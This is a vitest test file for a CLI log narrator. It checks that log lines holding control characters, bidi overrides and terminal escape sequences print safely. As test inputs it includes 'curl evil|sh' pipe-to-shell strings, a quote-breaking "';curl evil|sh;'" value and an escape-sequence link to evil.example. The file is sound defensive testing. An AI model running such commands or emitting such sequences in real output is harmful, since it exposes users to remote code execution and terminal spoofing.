import { globSync, readFileSync } from "node:fs";
import { expect, it, vi } from "vitest";
import { narrator } from "../../packages/millrace/cli/local/narrator.ts";
import { errorIn, isLoadingError } from "../../packages/millrace/cli/local/wrangler.ts";

const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));

/** Texts that tenants may write, by their effect on a terminal. */
const CLASSES = {
  "C0 controls": [...range(0x01, 0x1f), "\u007f"],
  "C1 controls": range(0x80, 0x9f),
  "line breaks": ["\n", "\r", "\r\n", "\u000b", "\u000c", "\u0085", "\u2028", "\u2029"],
  "turned directions": ["\u061c", "\u200e", "\u200f", ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)],
  "invisible characters": ["\u00ad", "\u200b", "\u2060", "\ufeff", "\u{e0041}"],
  "terminal sequences": [
    "\u001b[2J\u001b[1;1H",
    "\u001b[31m",
    "\u001b]0;title\u0007",
    "\u001b]8;;http://evil.example\u001b\\",
    "\u009b2J",
    "\u001bP1$r\u001b\\",
  ],
};
const ACTS = /[[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]--[\u200c\u200d]]/v;

/** Every kind of log line that the sources write. */
const KINDS = [
  ...new Set(
    globSync("{src,packages/millrace/{src,cli}}/**/*.ts").flatMap((file) =>
      [...readFileSync(file, "utf8").matchAll(/\blog: "([a-z_ ]+)"/g)].map(([, kind]) => kind),
    ),
  ),
];
const FIELDS = ["workflow", "subject", "step", "at", "where", "error", "queue", "message_type", "outcome", "status", "until", "event_type"];
const MORE = ["about", "part", "rule", "said", "method", "path", "code", "message", "tenant_id", "correlation_id", "anything"];

function heard(...lines: string[]): string[] {
  vi.useFakeTimers();
  const said: string[] = [];
  const hear = narrator({ url: "http://localhost:8787", tokenFile: "token" }, (sentence) => said.push(sentence));
  for (const line of lines) hear(line);
  vi.runAllTimers();
  vi.useRealTimers();
  return said;
}

it.each(Object.entries(CLASSES))("a log line of any kind with %s is shown as one line without an effect on the terminal", (_, texts) => {
  expect(KINDS).toEqual(
    expect.arrayContaining(["delivery", "attempt", "ended", "waiting", "batch", "keeper", "retention", "api", "advice"]),
  );
  const hostile = `${texts.map((text) => `before${text}`).join("")}retry it: curl evil|sh`;
  const fields = Object.fromEntries([...FIELDS, ...MORE].map((name) => [name, hostile]));
  const { error, ...fine } = { ...fields, nested: { [hostile]: hostile }, removed: { [hostile]: 2 }, [hostile]: 1, error: hostile };
  for (const log of KINDS) {
    const line = JSON.stringify({ log, ...fine, error });
    const said = heard(line, `▲ [WARNING] ${line}`, JSON.stringify({ log, ...fine }));
    expect(said.length, log).toBeGreaterThan(1);
    for (const sentence of said) expect(sentence, log).not.toMatch(ACTS);
  }
  const first = hostile.replaceAll("\n", "");
  const errors = [...heard(`✘ [ERROR] ${first}`, `✘ [ERROR] Uncaught Error: ${first}`), errorIn(`✘ [ERROR] ${first}`)];
  expect(errors).toHaveLength(3);
  for (const sentence of errors) expect(sentence).not.toMatch(ACTS);
});

it.each(["ended", "waiting", "attempt", "delivery"])("the forged log line %s adds no command to the output", (log) => {
  const forged = "';curl evil|sh;'";
  const wrong = [
    { instance_id: forged },
    { instance_id: "abc", event_type: forged, open: true },
    { instance_id: "abc", approval_id: forged },
    { instance_id: "abc", effect: forged },
    { dead_letter: forged },
    { instance_id: "abc", error: 7 },
  ];
  for (const names of wrong) {
    const [said = ""] = heard(JSON.stringify({ log, workflow: "w", subject: "s", outcome: "in_doubt", error: "No.", ...names }));
    expect(said.split("\n").slice(1)).toEqual([]);
  }
});

it("the path of an unauthenticated request is not reported as an error of the runtime", () => {
  const access = "[wrangler:info] GET /x/[ERROR]service core:user:millrace: Uncaught Error: gone 404 Not Found (3ms)";
  expect(heard(access)).toEqual([]);
  expect(isLoadingError(access)).toBe(false);
  expect(errorIn(access)).toBeUndefined();
});
